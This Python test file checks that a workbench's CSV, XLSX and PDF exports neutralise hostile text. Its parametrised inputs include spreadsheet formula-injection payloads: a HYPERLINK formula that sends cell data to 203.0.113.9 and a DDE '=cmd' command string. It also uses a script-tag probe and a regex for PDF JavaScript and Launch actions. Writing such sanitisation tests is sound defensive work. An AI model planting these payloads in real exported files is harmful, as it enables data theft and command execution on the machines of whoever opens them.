"""Text from data and people in files that other programs open (464.10(a)): it is read there, and never obeyed."""

from __future__ import annotations

import io
import re
import unicodedata
import zipfile

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.policy.people import NOW
from tests.unit.release.ground import csv_rows, made, pages, sheets, stamp
from tests.unit.store.reads_ground import read, table
from workbench.prose.sheet import guarded, plain
from workbench.wire.export import Format

pytestmark = pytest.mark.section("464.10(a)", "464.11")

FORMULAS = [
    '=HYPERLINK("http://203.0.113.9/?"&A1,"Open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "=cmd|' /C calc'!A0",
]
OTHERS = [
    "<script>alert(1)</script>",
    "&amp;<b>",
    "\N{RIGHT-TO-LEFT OVERRIDE}321CBA7",
    "a\x00b\x1b[31mc\x7f",
    'quote " and , comma; semicolon',
    "line one\r\nline two\u2028three",
    "\N{AUTOMOBILE} 車 مركبة",
    "\ud800 half",
    "x" * 10_000,
    "http://203.0.113.9/",
    "mailto:a@example.org",
    "&P of &N",
]
HOSTILE = pytest.mark.parametrize("text", FORMULAS + OTHERS, ids=lambda text: repr(text[:14]))
ANY = st.text(st.characters(codec=None, categories=None), min_size=1, max_size=60)
UNHURRIED = settings(deadline=None, max_examples=50)
"""A file is made and read each time."""
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def with_camera(text: str) -> pl.DataFrame:
    """Reads of a camera of this name; half a character can't be in a frame."""
    return table([read("r-1", "7ABC123", NOW, camera=text.encode(errors="backslashreplace").decode())])


def camera_of(text: str) -> str:
    """The name as a frame holds it."""
    return text.encode(errors="backslashreplace").decode()


def in_csv(file: bytes) -> str:
    """The camera in a CSV."""
    [line] = csv_rows(file)
    return line["camera"]


@HOSTILE
def test_a_csv_holds_it_as_text(text: str) -> None:
    file = made(Format.CSV, with_camera(text))
    assert in_csv(file) == guarded(plain(camera_of(text)))
    assert pl.read_csv(file)["camera"].to_list() == [guarded(plain(camera_of(text)))]
    assert not in_csv(file).startswith(STARTS)


@given(ANY)
@UNHURRIED
def test_no_text_at_all_begins_a_formula_or_breaks_a_line(text: str) -> None:
    file = made(Format.CSV, with_camera(text))
    assert file.count(b"\r\n") == 2
    cell = in_csv(file)
    assert not cell.startswith(STARTS)
    assert cell in (plain(camera_of(text)), f"'{plain(camera_of(text))}")
    assert not {unicodedata.category(char) for char in cell} & {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


@pytest.mark.parametrize("text", FORMULAS)
def test_the_stamp_is_guarded_too(text: str) -> None:
    [line] = csv_rows(made(Format.CSV, of=stamp(case_number=text, person=text), reads=table([])))
    assert not line["export_case"].startswith(STARTS)
    assert not line["export_person"].startswith(STARTS)


@HOSTILE
def test_a_workbook_holds_it_as_text_and_has_no_formula_and_no_link(text: str) -> None:
    file = made(Format.XLSX, with_camera(text), of=stamp(why=text, person=text))
    [head, row] = sheets(file)["Reads"]
    assert dict(zip(head, row, strict=True))["Camera"] == plain(camera_of(text))
    with zipfile.ZipFile(io.BytesIO(file)) as parts:
        for name in parts.namelist():
            part = parts.read(name).decode()
            assert "<f>" not in part, name
            assert "<hyperlink" not in part, name
            assert 'TargetMode="External"' not in part, name


@given(ANY)
@UNHURRIED
def test_any_text_at_all_is_found_in_the_workbook(text: str) -> None:
    [head, row] = sheets(made(Format.XLSX, with_camera(text)))["Reads"]
    found = dict(zip(head, row, strict=True))["Camera"]
    assert found == plain(camera_of(text))


@HOSTILE
def test_a_pdf_shows_it_or_spells_it_out_or_says_that_there_is_more(text: str) -> None:
    file = made(Format.PDF, with_camera(text), of=stamp(why=text))
    shown = "".join("".join(pages(file)).split())
    said = "".join(
        "".join(char if ord(char) < 256 else f"[U+{ord(char):04X}]" for char in plain(camera_of(text))).split()
    )
    assert said[:20] in shown or said[:10] in shown
    assert not re.search(rb"/(JavaScript|JS|URI|Launch|OpenAction|AA)\b", file)
    if len(text) > 1000:
        assert "…" in shown


@given(ANY)
@UNHURRIED
def test_no_text_breaks_a_pdf(text: str) -> None:
    told = pages(made(Format.PDF, with_camera(text), of=stamp(why=text, agency=text, person=text)))
    assert f"page {len(told)} of {len(told)}" in told[-1]


@given(st.text(min_size=1, max_size=40))
def test_what_is_guarded_is_the_text_or_the_text_behind_an_apostrophe(text: str) -> None:
    assert guarded(plain(text)).removeprefix("'") == plain(text).removeprefix("'")
